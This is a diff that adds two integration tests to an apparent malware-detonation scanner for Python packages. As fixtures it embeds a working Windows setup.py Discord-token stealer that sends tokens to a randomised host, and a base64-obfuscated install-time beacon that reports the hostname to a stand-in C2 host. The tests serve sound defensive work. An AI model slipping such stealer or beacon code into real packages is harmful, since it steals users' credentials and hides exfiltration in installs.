@@ -173,3 +173,81 @@ def test_benign_package_stays_clean_with_both_passes_in_deep(tmp_path: Path) -> 
     assert all(p.status.value == "ok" for p in report.phases), [
         (p.phase, p.pass_name, p.problems) for p in report.phases
     ]
+
+
+def test_windows_stealer_in_setup_py_is_caught_in_a_windows_reinstall(tmp_path: Path) -> None:
+    """setup.py imports ctypes.windll and reads %USERPROFILE%: the default install fails
+    on Linux, so the Windows pass re-runs install, where the candidate's code (and
+    only it) sees os.name 'nt' and the stealer reaches the honey tree and sends it."""
+    from tests.integration.test_detonate import legacy_sdist
+
+    r = Randomised()
+    name, host = r.name("winsetup"), r.address()
+    hook = f"/api/webhooks/{r.rng.randrange(10**17, 10**18)}/{r.name('h')}"
+    top = textwrap.dedent(f"""\
+        import json, os, platform, re, socket, sys
+        from ctypes import windll
+        profile = os.environ["USERPROFILE"]
+        if os.name == "nt" and sys.platform == "win32" and platform.system() == "Windows":
+            path = os.getenv("APPDATA") + "\\\\Discord\\\\Local Storage\\\\leveldb"
+            found = []
+            for leaf in os.listdir(path):
+                if leaf.endswith((".ldb", ".log")):
+                    text = open(path + "\\\\" + leaf, errors="ignore").read()
+                    found += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{25,110}}", text)
+            body = json.dumps({{"content": found}}).encode()
+            s = socket.create_connection(({host!r}, 80), timeout=5)
+            s.sendall(b"POST {hook} HTTP/1.1\\r\\nHost: discord.invalid\\r\\n"
+                      b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
+            s.recv(100)
+            s.close()
+        """)
+    code, report = run_cli(tmp_path, str(legacy_sdist(tmp_path, name, top)))
+    assert report is not None
+    rows = {(p.phase, p.pass_name): p for p in report.phases}
+    assert rows[(Phase.INSTALL, DEFAULT_PASS)].status.value == "error"
+    win = rows[(Phase.INSTALL, "windows")]
+    assert "Windows-only import" in win.pass_note and "windll" in win.pass_note
+    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+    assert report.network is not None
+    x = next(x for x in report.network.exfiltration if x.canary == "discord token")
+    assert x.pass_name == "windows" and x.destination == f"{host}:80"
+    caught = [f for f in report.findings if f.severity.rank >= Severity.HIGH.rank]
+    assert caught and all(f.pass_name == "windows" and f.phase is Phase.INSTALL for f in caught), [
+        (f.rule_id, f.pass_name, f.phase) for f in caught
+    ]
+    # pip itself, re-installing in the pass, is the harness: no finding cites its process
+    pip = ("-m", "pip", "install")
+    assert not [e for f in report.findings for e in f.evidence if tuple(e.process[1:4]) == pip]
+
+
+def test_setup_py_gated_on_windows_runs_in_the_windows_pass_on_a_static_hint(tmp_path: Path) -> None:
+    """An obfuscated setup.py payload gated on os.name == 'nt': the default pass completes
+    clean, the host's static scan of the sources (kept rules only) hints at it, and the
+    Windows pass rebuilds the sdist where the gate opens."""
+    import base64
+
+    from tests.integration.test_detonate import legacy_sdist
+
+    r = Randomised()
+    name, host, port = r.name("wingate"), r.address(), r.port()
+    inner = textwrap.dedent(f"""\
+        import os, socket
+        if os.name == "nt":
+            s = socket.create_connection(({host!r}, {port}), timeout=5)
+            body = socket.gethostname().encode()
+            s.sendall(b"POST /checkin HTTP/1.1\\r\\nHost: c2.invalid\\r\\nContent-Length: "
+                      + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
+            s.close()
+        """)
+    top = f"import base64\nexec(base64.b64decode({base64.b64encode(inner.encode()).decode()!r}))\n"
+    code, report = run_cli(tmp_path, str(legacy_sdist(tmp_path, name, top)))
+    assert report is not None
+    rows = {(p.phase, p.pass_name): p for p in report.phases}
+    assert rows[(Phase.INSTALL, DEFAULT_PASS)].status.value == "ok"
+    win = rows[(Phase.INSTALL, "windows")]
+    assert win.pass_note.startswith("static rules matched"), win.pass_note
+    beacon = [e for e in report.events if e.address is not None and e.address.port == port]
+    assert beacon and {e.pass_name for e in beacon} == {"windows"}
+    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+    assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)
